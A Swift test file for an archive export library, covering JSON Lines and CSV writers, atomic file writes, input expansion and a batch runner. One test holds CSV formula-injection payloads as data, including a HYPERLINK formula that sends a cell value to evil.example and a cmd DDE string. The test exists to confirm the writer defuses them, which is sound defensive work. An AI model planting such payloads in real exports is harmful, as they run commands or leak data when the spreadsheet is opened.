import Foundation
import Testing
import TopicsCore
import TopicsTestSupport
@testable import ArchiveIO

@Suite("Writers and inputs")
struct WritersTests {
    let record = Record([
        .init("title", .string("政协 \"提案\"\n第二行\\")),
        .init("date", .null),
        .init("paragraphs", .strings(["一,二", "三"])),
        .init("n", .int(3)),
        .init("images", .records([Record([.init("src", .string("a.jpg"))])])),
    ])

    @Test func jsonLinesEscapesAndRoundTrips() throws {
        var writer = JSONLinesWriter()
        var bytes: [UInt8] = []
        writer.encode(record, into: &bytes)
        #expect(bytes.last == 0x0A)
        #expect(bytes.dropLast().allSatisfy { $0 != 0x0A }, "one record, one line")
        let object = try #require(try JSONSerialization.jsonObject(with: Data(bytes)) as? [String: Any])
        #expect(object["title"] as? String == "政协 \"提案\"\n第二行\\")
        #expect(object["date"] is NSNull)
        #expect(object["paragraphs"] as? [String] == ["一,二", "三"])
        #expect(object["n"] as? Int == 3)
        #expect(String(decoding: bytes, as: UTF8.self).hasPrefix("{\"title\":"))
    }

    @Test func csvQuotesCellsAndWritesHeaderOnce() {
        var writer = CSVWriter(byteOrderMark: false)
        var bytes: [UInt8] = []
        writer.encode(record, into: &bytes)
        writer.encode(record, into: &bytes)
        let text = String(decoding: bytes, as: UTF8.self)
        let expectedRow = "\"政协 \"\"提案\"\"\n第二行\\\",,\"一,二\n三\",3,\"[{\"\"src\"\":\"\"a.jpg\"\"}]\"\r\n"
        #expect(text == "title,date,paragraphs,n,images\r\n" + expectedRow + expectedRow)
    }

    /// Issue 13: a citizen's message titled like a formula must not run in Excel or WPS.
    @Test func csvCellsNeverStartAFormula() {
        let hostile = [#"=HYPERLINK("http://evil.example/?x="&A1,"点击")"#, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                       "\t=1+1", "\r=1+1", "=1", "-", "+"]
        var writer = CSVWriter(byteOrderMark: false)
        var bytes: [UInt8] = []
        for (k, title) in hostile.enumerated() {
            writer.encode(Record([.init("id", .int(k)), .init("title", .string(title)), .init("list", .strings([title, "安全"])),
                                  .init("score", .double(-3.5)), .init("count", .string("-3.5")), .init("phone", .string("+86"))]), into: &bytes)
        }
        var reader = try! CSVReader(bytes: bytes, input: "hostile.csv")
        var rows = 0
        while let cells = reader.nextRow() {
            let title = cells[1], list = cells[2]
            #expect(title.hasPrefix("'"), "\(title)")
            #expect(title.dropFirst() == hostile[rows])
            #expect(list.hasPrefix("'"), "\(list)")
            #expect(cells[3] == "-3.5" && cells[4] == "-3.5" && cells[5] == "+86", "numbers stay numbers")
            rows += 1
        }
        #expect(rows == hostile.count)
        for safe in ["政协提案", "1+1", "a=b", "'quoted"] { #expect(CSVWriter.neutralized(safe) == safe) }
    }

    @Test func atomicFileAppearsOnlyOnCommit() throws {
        let folder = try Fixtures.temporaryFolder()
        let path = folder.appendingPathComponent("out.jsonl").path
        try "old".write(toFile: path, atomically: false, encoding: .utf8)
        let file = try OutputFile.atomic(path)
        try file.write(Array("new\n".utf8))
        try file.flush()
        #expect(try String(contentsOfFile: path, encoding: .utf8) == "old", "the final name keeps the old file until commit")
        try file.commit()
        #expect(try String(contentsOfFile: path, encoding: .utf8) == "new\n")
        #expect(try FileManager.default.contentsOfDirectory(atPath: folder.path) == ["out.jsonl"], "no temporary file left")
    }

    @Test func abandonedFileLeavesNothing() throws {
        let folder = try Fixtures.temporaryFolder()
        let file = try OutputFile.atomic(folder.appendingPathComponent("out.jsonl").path)
        try file.write(Array("half".utf8))
        file.abandon()
        #expect(try FileManager.default.contentsOfDirectory(atPath: folder.path).isEmpty)
    }

    @Test func writingIntoMissingFolderIsAClearError() {
        #expect(throws: TopicsError.self) { try OutputFile.atomic("/nonexistent-folder-xyz/out.jsonl") }
    }

    @Test func inputsExpandFoldersGlobsAndReportMisses() throws {
        let folder = try Fixtures.temporaryFolder()
        let sub = folder.appendingPathComponent("sub")
        try FileManager.default.createDirectory(at: sub, withIntermediateDirectories: true)
        for name in ["b.html", "a.htm", "notes.txt", "sub/c.shtml"] {
            try "x".write(to: folder.appendingPathComponent(name), atomically: true, encoding: .utf8)
        }
        let (inputs, errors) = InputFiles.expand([folder.path, folder.path + "/*.txt", "-", folder.path + "/missing.html"])
        #expect(inputs == [.file(folder.path + "/a.htm"), .file(folder.path + "/b.html"), .file(folder.path + "/sub/c.shtml"),
                           .file(folder.path + "/notes.txt"), .standardInput])
        #expect(errors.map(\.code) == [.unreadable])
        #expect(errors.first?.input == folder.path + "/missing.html")
    }

    @Test func unreadableFileIsAnError() {
        #expect {
            try InputFiles.read(.file("/proc/self/mem"), maxBytes: 1 << 20)
        } throws: { ($0 as? TopicsError)?.code == .unreadable }
    }

    @Test func batchKeepsOrderAndFailuresInPlace() throws {
        var seen: [(Int, Result<Int, TopicsError>)] = []
        try BatchRunner(jobs: 2, window: 7).run(Array(0..<50), work: { (n: Int) throws(TopicsError) -> Int in
            if n % 10 == 3 { throw TopicsError(.noContent, input: "\(n)", "planted") }
            return n * n
        }) { index, _, result in seen.append((index, result)) }
        #expect(seen.map(\.0) == Array(0..<50))
        for (n, result) in seen {
            switch result {
            case .success(let square): #expect(square == n * n)
            case .failure(let error): #expect(n % 10 == 3 && error.input == "\(n)")
            }
        }
    }
}
